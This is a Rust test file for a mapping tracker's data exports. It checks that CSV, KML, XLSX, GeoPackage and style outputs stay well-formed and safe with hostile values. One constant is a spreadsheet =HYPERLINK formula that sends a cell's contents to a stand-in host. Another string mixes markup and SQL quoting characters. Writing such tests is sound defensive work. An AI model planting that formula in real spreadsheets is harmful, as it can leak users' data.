//! Rows that another program wrote into a store, and what every form makes of them.

use std::io::{Cursor, Write as _};
use std::sync::Arc;

use calamine::{Data, Reader as _, Xlsx};
use hlp_tracker::cartography::{Asked, Ground, Query, gis};
use hlp_tracker::exports::{Format, Options};
use hlp_tracker::features::Collection;
use hlp_tracker::model::{Lang, Loaded};
use hlp_tracker::snapshot::Snapshot;
use jiff::civil::date;
use quick_xml::Reader;
use quick_xml::events::Event;
use rusqlite::Connection;

use super::written;
use crate::small_world;

const FORMULA: &str = "=HYPERLINK(\"http://a.example/?\"&A1)";

/// Blanks, brackets and signs of markup, SQL and Parquet's own language.
const CYCLE: &str = "2022 \"II\" <A&B>; (x)";

fn built(change: impl FnOnce(&mut Loaded)) -> Arc<Snapshot> {
    let mut town = small_world::loaded();
    change(&mut town);
    Arc::new(Snapshot::build(town, None, 10_000.0).expect("sound"))
}

/// Panics where it is not well-formed, or has a character that XML forbids.
fn assert_is_xml(text: &str) {
    let is_forbidden = |c: char| c < ' ' && !matches!(c, '\t' | '\n' | '\r');
    assert!(!text.contains(is_forbidden), "{text}");
    let mut reader = Reader::from_str(text);
    while reader.read_event().expect("well-formed") != Event::Eof {}
}

#[test]
fn csv_has_no_formula_and_other_forms_have_the_text() {
    let snapshot = built(|town| town.records.practices[0].title_mn = FORMULA.to_owned());
    let text = |format| {
        String::from_utf8(written(&snapshot, "practices", format, Options::default())).expect("UTF-8")
    };
    let csv = text(Format::Csv);
    let mut rows = csv::Reader::from_reader(csv.as_bytes());
    let at = rows.headers().expect("a header").iter().position(|name| name == "title_mn").expect("a column");
    let titles: Vec<String> = rows.records().map(|row| row.expect("a row")[at].to_owned()).collect();
    assert!(titles.contains(&format!("'{FORMULA}")), "{titles:?}");
    assert!(text(Format::GeoJsonLines).contains(&FORMULA.replace('"', "\\\"")));
}

#[test]
fn a_control_character_leaves_the_document_readable() {
    let snapshot = built(|town| town.records.practices[0].title_mn = "a\u{b}b\u{1}".to_owned());
    let kml = written(&snapshot, "practices", Format::Kml, Options::default());
    let kml = String::from_utf8(kml).expect("UTF-8");
    assert_is_xml(&kml);
    assert!(kml.contains(">ab<"), "{kml}");
}

#[test]
fn kml_types_a_number_that_goes_beyond_its_whole_ones() {
    let type_of = |cost| {
        let snapshot = built(|town| town.records.practices[0].details.cost_setup = Some(cost));
        let kml = written(&snapshot, "practices", Format::Kml, Options::default());
        let kml = String::from_utf8(kml).expect("UTF-8");
        assert!(kml.contains(&format!("<SimpleData name=\"cost_setup\">{cost}</SimpleData>")), "{kml}");
        let (before, _) = kml.split_once("\" name=\"cost_setup\"><displayName>").expect("a field");
        before.rsplit('"').next().expect("a type").to_owned()
    };
    assert_eq!([type_of(i64::from(i32::MAX)), type_of(5_000_000_000)], ["int", "double"]);
}

#[test]
fn a_day_before_workbooks_count_is_text_in_them() {
    let day = date(202, 5, 14);
    let snapshot = built(|town| town.records.practices[0].details.started_on = Some(day));
    let bytes = written(&snapshot, "practices", Format::Xlsx, Options::default());
    let mut book = Xlsx::new(Cursor::new(bytes)).expect("a workbook");
    let (_, sheet) = book.worksheets().remove(0);
    assert!(sheet.rows().flatten().any(|cell| *cell == Data::String("0202-05-14".to_owned())));
}

#[test]
fn a_cycle_may_be_called_anything() {
    let snapshot = built(|town| {
        let records = &mut town.records;
        let named = |id: &mut String| {
            if *id == "2022" {
                CYCLE.clone_into(id);
            }
        };
        records.cycles.iter_mut().for_each(|one| named(&mut one.id));
        records.identifications.iter_mut().for_each(|one| named(&mut one.cycle));
        records.replications.iter_mut().for_each(|one| named(&mut one.cycle));
    });
    let field = format!("identifications_{CYCLE}");
    let collection = Collection::find(&snapshot, "khoroos").expect("there");
    assert!(collection.open(&snapshot).fields.iter().any(|one| one.name == field));
    for format in Format::ALL {
        let bytes = written(&snapshot, "khoroos", *format, Options::default());
        assert!(!bytes.is_empty(), "{format:?}");
    }
    let mut file = tempfile::NamedTempFile::new().expect("a file");
    let package = written(&snapshot, "khoroos", Format::GeoPackage, Options::default());
    file.write_all(&package).expect("written");
    let connection = Connection::open(file.path()).expect("a database");
    let asked = Asked { cycle: Some(CYCLE), ..Asked::default() };
    let query = Query::read(&snapshot, "identifications", &asked, Lang::En).expect("a map");
    let sld = gis::sld(&snapshot, &query, Ground::Light).expect("a style");
    let qml = gis::qml(&snapshot, &query, Ground::Light).expect("a style");
    assert_is_xml(&sld);
    assert_is_xml(&qml);
    let quoted = field.replace('"', "\"\"");
    assert!(qml.contains(&*quick_xml::escape::escape(format!("\"{quoted}\" >= "))), "{qml}");
    let sql = format!("select sum(\"{quoted}\") from khoroos");
    assert!(connection.query_row(&sql, [], |row| row.get::<_, i64>(0)).expect("a column") > 0);
}

#[test]
fn equal_snapshots_give_equal_bytes_in_every_form() {
    let [first, second] = [built(|_| {}), built(|_| {})];
    for id in ["khoroos", "practices", "indicators"] {
        let collection = Collection::find(&first, id).expect("there");
        for format in Format::ALL.iter().filter(|format| format.holds(&collection, &first)) {
            let [one, other] =
                [&first, &second].map(|snapshot| written(snapshot, id, *format, Options::default()));
            assert!(one == other, "{id}: {format:?}");
        }
    }
    let [one, other] =
        [&first, &second].map(|snapshot| written(snapshot, "all", Format::GeoPackage, Options::default()));
    assert!(one == other, "all");
}
